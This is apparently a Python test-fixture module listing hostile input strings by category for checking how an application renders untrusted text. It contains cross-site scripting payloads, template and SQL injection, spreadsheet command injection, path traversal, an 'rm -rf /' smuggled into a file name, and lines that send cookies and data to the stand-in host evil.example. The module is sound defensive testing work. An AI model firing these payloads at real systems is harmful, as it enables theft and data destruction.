"""Texts that do harm where they are taken for something else than text, by what takes them.

What runs sets ``window.__pwn``, opens a dialogue, or asks an address outside. A code name
has room for forty characters, so most are no longer, and their first forty differ.
"""

from __future__ import annotations

import re
from typing import Final

OUTSIDE: Final = "evil.example"
_RUN: Final = "window.__pwn=1"

TEXTS: Final[dict[str, tuple[str, ...]]] = {
    "script": (
        f"<script>{_RUN}</script>",
        "<ScRiPt/src=//evil.example/a.js></sCrIpT>",
        f"</script><script>{_RUN}</script>",
        f"--></title></textarea><script>{_RUN}</script>",
        f"<iframe srcdoc='<script>parent.__pwn=1</script>'>{_RUN}",
        "<base href=//evil.example/><object data=x>",
    ),
    "event handler": (
        f"<img src=x onerror={_RUN}>",
        f'" autofocus onfocus={_RUN} x="',
        f"' onmouseover='{_RUN}' '",
        f"<details open ontoggle={_RUN}>",
        "<input autofocus onfocus=alert(1)>",
        "<body onload=alert(1)><marquee onstart=alert(1)>",
    ),
    "drawing": (
        f"<svg onload={_RUN}>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text>x",
        "<math><mtext><img src onerror=alert(1)>",
    ),
    "template literal": (
        f"${{{_RUN}}}",
        "`);window.__pwn=1;(`",
        "${fetch('http://evil.example/'+document.title)}",
        "C:\\Users\\x \\u{zz} price ${ 5",
        "O`Brien \\",
    ),
    "template": (
        "{{7*7}}{% raw %}",
        "{{ config.__class__.__init__.__globals__ }}",
        "{% include '/etc/passwd' %}{# x",
        "%(password)s {0.__class__} %n%s",
    ),
    "address that runs": (
        "javascript:alert(1)//",
        "[open](javascript:alert(1))",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1) JaVaScRiPt&colon;alert(1)",
    ),
    "Markdown": (
        "![x](http://evil.example/p.png)",
        "[![x](//evil.example/q.png)](//evil.example)",
        "![x][r]\n\n[r]: http://evil.example/r.png",
        "# Title\n* a **b** _c_ ~~d~~ `e` | f\n---",
        "www.evil.example http://evil.example/m <http://evil.example/n>",
        "1. <img src=http://evil.example/s.png>",
    ),
    "directive of Streamlit": (
        ":red[hurt] :blue-background[x] :small[y]",
        ":material/delete: :streamlit: :smile:",
        "$x^2$ and $$\\int_0^1$$ then $5",
        ":red-badge[:material/bolt: x] -> <- -- >= ~=",
    ),
    "style": (
        f"<style>*{{background:url(//{OUTSIDE}/c)}}</style>",
        "red;background:url(http://evil.example/d)",
        "</style><link rel=stylesheet href=//evil.example>",
        'x" style="position:fixed;inset:0;z-index:9',
    ),
    "odd characters": (
        "safe\u202egpj.exe\u202c \u2066end\u2069",
        "zero\u200bwidth\u200d\ufeffjoined\u2060up",
        "nul\x00bell\x07escape\x1b[31mred\x7f",
        "half\ud800 other\udfff half",
        "line\u2028para\u2029next\x85end",
        "Za\u0315\u0321\u0322\u0327lgo\u0334\u0335 \U0001f468\u200d\U0001f469 \u200fשלום",
    ),
    "formula": (
        '=HYPERLINK("http://evil.example","x")',
        "+1+cmd|' /C calc'!A0",
        '-2+3+DDE("cmd";"/C calc")',
        "@SUM(1+1)*cmd|x",
        "\uff1d1+1 \uff0b2",
        "\t=1+1",
        "\r\n=1+2",
        "'=1+3",
    ),
    "path": (
        "../../../../etc/passwd",
        "..\\..\\windows\\system32\\con.txt",
        "file.csv\x00.exe; rm -rf / #`id`$(id)|ls",
    ),
    "SQL": (
        "'; DROP TABLE place; --",
        "' OR '1'='1' UNION SELECT * FROM account --",
        "%_\\%' ESCAPE '\\",
    ),
    "very long": ("W" * 200, "long " * 40),
    "GeoJSON": (
        '"}},{"type":"Feature","geometry":null}]}',
        '\\"},"properties":{"a":1}}]}//',
    ),
    "name of JavaScript's own": (
        "__proto__",
        "constructor",
        "toString",
        "undefined null NaN [object Object]",
    ),
    "calendar": (
        "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged",
        "a;b,c\\nd:e\\;ATTACH:http://evil.example/f",
        "\n DESCRIPTION:folded\nATTENDEE:mailto:a@evil.example",
    ),
    "header": (
        "a\r\nSet-Cookie: pwn=1\r\n\r\n<script>alert(2)</script>",
        'x"; filename="evil.html',
        "a%0d%0aLocation:%20//evil.example",
    ),
    "way out": (
        "<script>fetch('//evil.example/e')</script>",
        "<img src=//evil.example/i.gif?x>",
        "${navigator.sendBeacon('//evil.example/b')}",
        "${new RTCPeerConnection({iceServers:[{urls:'stun:evil.example'}]})}",
        "<script>location='//evil.example/'+document.cookie</script>",
        "<form action=//evil.example><button>Go on</button>",
        "<video src=//evil.example/v autoplay><link rel=prefetch href=//evil.example>",
    ),
    "terminal": (
        "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
        "\x1b[2J\x1b[H\x07gone",
        "\x9b31mred\x9b0m \x9d0;title\x9c",
        "[link=http://evil.example]x[/link] [/b] [red]y",
    ),
}
"""By class; what a class is called is what takes such a text for its own."""

ALL: Final = tuple(text for texts in TEXTS.values() for text in texts)
SOME: Final = (
    f"<img src=x onerror={_RUN}>",
    f"${{{_RUN}}}",
    "`);window.__pwn=1;(`",
    "{{7*7}}{% raw %}",
    "[open](javascript:alert(1))",
    "![x](http://evil.example/p.png)",
    ":material/delete: :streamlit: :smile:",
    "$x^2$ and $$\\int_0^1$$ then $5",
    ":red[hurt] :blue-background[x] :small[y]",
    'x" style="position:fixed;inset:0;z-index:9',
    "safe\u202egpj.exe\u202c \u2066end\u2069",
    '=HYPERLINK("http://evil.example","x")',
    "__proto__",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
)
"""The few that go through everything in every run: for each way text is read here, the worst."""

_DROPPED: Final = re.compile("[\x00-\x08\x0e-\x1f\x7f-\x9f\ud800-\udfff]")


def as_seen(text: str) -> str:
    """The text as a screen shows it: no control characters, and runs of spaces as one space."""
    return " ".join(_DROPPED.sub("", " ".join(text.split())).split())
